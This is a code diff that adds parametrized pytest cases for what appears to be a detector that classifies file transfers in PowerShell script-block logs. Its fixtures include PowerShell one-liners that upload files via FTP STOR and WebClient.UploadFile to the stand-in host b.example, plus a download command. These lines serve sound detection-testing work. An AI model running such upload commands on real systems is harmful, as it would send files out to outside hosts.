@@ -40,6 +40,25 @@ def test_the_gravest_of_several_transfers_counts(line: str, direction: str, wher
 
 
 @pytest.mark.parametrize(
+    ("script", "where"),
+    [
+        (
+            "$f=[Net.FtpWebRequest]::Create('ftp://b.example/x'); $f=[Net.FtpWebRequest]$f; $f.Method='STOR'",
+            "b.example",
+        ),
+        (
+            "$w=New-Object Net.WebClient; $w.UploadFile('http://b.example/', $f); $x.SendFile('C:\\a.zip')",
+            "b.example",
+        ),
+        ("iwr http://a.example/x -OutFile x; $s.Method = 'POST'", None),
+    ],
+)
+def test_an_upload_that_names_no_host_goes_where_the_line_says(script: str, where: str | None) -> None:
+    found = fields({"ScriptBlockText": script}.get)
+    assert (found["transfer.direction"], found["transfer.destination"]) == ("upload", where)
+
+
+@pytest.mark.parametrize(
     ("host", "kind"),
     [
         ("127.0.0.1", "loopback"),
